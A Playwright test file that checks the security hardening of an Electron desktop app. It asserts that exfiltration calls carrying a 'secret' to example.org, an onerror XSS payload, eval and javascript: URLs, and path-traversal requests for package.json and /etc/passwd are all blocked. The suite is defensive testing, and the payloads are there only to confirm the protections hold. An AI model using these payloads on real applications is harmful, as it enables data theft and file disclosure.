import { spawn } from 'node:child_process';
import path from 'node:path';
import type { Page } from 'playwright/test';
import { expect, hostProgram, hostSwitches, test, type Desk } from './fixture.ts';

/** Reads the directives that the page's content policy enforced while the attempt ran and shortly after. */
async function stoppedBy(page: Page, attempt: () => void): Promise<readonly string[]> {
  await page.evaluate(() => {
    const seen: string[] = [];
    Reflect.set(window, 'seen', seen);
    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
  });
  await page.evaluate(attempt);
  await page.waitForTimeout(300);
  return page.evaluate(() => [...new Set(Reflect.get(window, 'seen') as string[])].toSorted());
}

async function expectHome({ app, page }: Desk, home: string): Promise<void> {
  await expect.poll(() => app.windows().length).toBe(1);
  expect(page.url()).toBe(home);
  expect(await page.evaluate(() => typeof Reflect.get(window, 'ropaDesk'))).toBe('object');
}

test('the window stays on its page', async ({ desk }) => {
  const home = desk.page.url();
  await desk.page.evaluate(() => location.assign('https://example.org/'));
  await desk.page.waitForTimeout(300);
  await expectHome(desk, home);
  await desk.page.evaluate(() => {
    const link = document.body.appendChild(document.createElement('a'));
    link.href = 'https://example.org/';
    link.click();
    link.target = '_blank';
    link.click();
    link.dispatchEvent(new MouseEvent('click', { button: 1, ctrlKey: true }));
    const form = document.body.appendChild(document.createElement('form'));
    form.action = 'https://example.org/';
    form.method = 'post';
    form.submit();
    location.assign('data:text/html,elsewhere');
    location.assign('file:///etc/passwd');
  });
  await desk.page.waitForTimeout(300);
  await expectHome(desk, home);
});

test('the page opens no other window', async ({ desk }) => {
  const home = desk.page.url();
  await desk.page.evaluate(() => {
    window.open('https://example.org/');
    window.open('about:blank', 'other');
    window.open(location.href);
  });
  await desk.page.waitForTimeout(500);
  await expectHome(desk, home);
});

test('nothing is sent or fetched outside', async ({ desk }) => {
  // What the page itself still fetches of its own must not be taken for the attack's.
  await desk.page.waitForLoadState('networkidle');
  await desk.page.evaluate(async () => document.fonts.ready.then(() => undefined));
  const asked: string[] = [];
  const stopped: string[] = [];
  desk.page.on('request', (request) => asked.push(request.url()));
  desk.page.on('requestfailed', (request) => stopped.push(request.url()));
  const directives = await stoppedBy(desk.page, () => {
    void fetch('https://example.org/fetch').catch(() => {});
    const request = new XMLHttpRequest();
    request.open('GET', 'https://example.org/xhr');
    request.onerror = () => {};
    request.send();
    navigator.sendBeacon('https://example.org/beacon', 'secret');
    new EventSource('https://example.org/events').onerror = () => {};
    try {
      new WebSocket('wss://example.org/socket').onerror = () => {};
    } catch {
      // Refused at once is refused as well.
    }
    new Image().src = 'https://example.org/pixel.png';
    const styles = document.head.appendChild(document.createElement('style'));
    styles.textContent =
      '@import url("https://example.org/a.css"); body { background: url("https://example.org/b.png") }';
    const icon = document.head.appendChild(document.createElement('link'));
    icon.rel = 'stylesheet';
    icon.href = 'https://example.org/c.css';
  });
  expect(directives).toEqual(expect.arrayContaining(['connect-src', 'img-src', 'style-src-elem']));
  expect(asked.filter((url) => !stopped.includes(url))).toEqual([]);
});

test('text never becomes script', async ({ desk }) => {
  const directives = await stoppedBy(desk.page, () => {
    const attempts: (() => unknown)[] = [
      () => (0, eval)('window.ranEval = true'),
      () => new Function('window.ranFunction = true')(),
      () => setTimeout('window.ranTimer = true'),
      () => {
        const holder = document.body.appendChild(document.createElement('div'));
        holder.innerHTML = '<img src="x:" onerror="window.ranHandler = true">';
      },
      () => {
        const script = document.createElement('script');
        script.text = 'window.ranInline = true';
        document.head.append(script);
      },
      () => {
        const script = document.createElement('script');
        script.src = 'data:text/javascript,window.ranData=true';
        document.head.append(script);
      },
      () => document.body.setAttribute('onclick', 'window.ranAttribute = true'),
      () => document.body.click(),
      () => location.assign('javascript:window.ranAddress=true'),
      () => new Worker('data:text/javascript,postMessage(1)'),
      () => {
        const elsewhere = `https://example.org/${document.title}.js`;
        return import(elsewhere).catch(() => {});
      },
    ];
    for (const attempt of attempts) {
      // A new task: what the test itself runs may do more than the page.
      setTimeout(() => {
        try {
          attempt();
        } catch {
          // Refused.
        }
      });
    }
  });
  const ran = await desk.page.evaluate(() => Object.keys(window).filter((name) => name.startsWith('ran')));
  expect(ran).toEqual([]);
  expect(directives).toEqual(expect.arrayContaining(['require-trusted-types-for']));
});

test('the page cannot make itself another way round', async ({ desk }) => {
  const made = await desk.page.evaluate(() => {
    const factory = Reflect.get(window, 'trustedTypes') as {
      createPolicy: (name: string, rules: object) => object;
    };
    return ['default', 'mine', 'dompurify'].filter((name) => {
      try {
        return Boolean(factory.createPolicy(name, { createHTML: (text: string) => text }));
      } catch {
        return false;
      }
    });
  });
  expect(made).toEqual([]);
});

test('only the files of the page are served', async ({ desk }) => {
  const paths = [
    '/package.json',
    '/../package.json',
    '/../../package.json',
    '/%2e%2e/%2e%2e/package.json',
    '/..%2f..%2fpackage.json',
    '/assets/..%5c..%5cpackage.json',
    '/assets/%2e%2e%2fmain%2fmain.cjs',
    '//etc/passwd',
    '/index.html%00.js',
    '/INDEX.HTML',
    '/assets/',
    `/${'a'.repeat(20_000)}`,
  ];
  const answers = await desk.page.evaluate(async (list) => {
    const statuses: (number | string)[] = [];
    for (const one of list) {
      const address = new URL(location.href).origin === 'null' ? `app://ropa${one}` : one;
      statuses.push(
        await fetch(address).then(
          (reply) => reply.status,
          () => 'refused',
        ),
      );
    }
    const home = await fetch('/index.html');
    return { statuses, home: home.status, policy: home.headers.get('content-security-policy') };
  }, paths);
  for (const [index, status] of answers.statuses.entries())
    expect([404, 'refused'], paths[index]).toContain(status);
  expect(answers.home).toBe(200);
  expect(answers.policy).toContain("default-src 'none'; script-src 'self'");
});

test('the page may keep its data and nothing else of the machine', async ({ desk }) => {
  const states = await desk.page.evaluate(async () => {
    const names = ['geolocation', 'notifications', 'camera', 'microphone', 'midi', 'clipboard-read'] as const;
    const asked = names.map((name) => navigator.permissions.query({ name: name as PermissionName }));
    return (await Promise.all(asked)).map((status) => status.state);
  });
  expect(states).toEqual(Array(6).fill('denied'));
  expect(await desk.page.evaluate(() => navigator.storage.persist())).toBe(true);
});

test('a second start brings the first window forward and leaves', async ({ desk }) => {
  const told = desk.app.evaluate(
    ({ app }) => new Promise<string>((resolve) => app.once('second-instance', () => resolve('told'))),
  );
  const second = spawn(hostProgram(), [
    ...hostSwitches,
    '.',
    `--user-data-dir=${path.join(desk.folder, 'profile')}`,
  ]);
  const left = new Promise<number | null>((resolve) => second.once('exit', resolve));
  expect(await told).toBe('told');
  expect(await left).toBe(0);
  await expect.poll(() => desk.app.windows().length).toBe(1);
});
